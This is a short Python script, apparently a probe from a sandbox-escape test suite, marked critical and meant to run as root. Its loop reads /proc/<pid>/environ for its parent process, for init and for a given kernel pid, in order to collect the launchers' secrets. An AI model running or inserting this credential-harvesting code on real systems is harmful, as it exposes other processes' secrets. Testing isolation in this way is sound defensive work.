# Reads the environment of who started it: an init or a launcher has the secrets of whoever started that.
# severity: critical
# escape: secret
# as: root
import os

from raw import A, steal, tried

for pid in {os.getppid(), *((1,) if A.way != "control" else ()), int(A.kernel)}:
    steal(f"/proc/{pid}/environ")
tried()
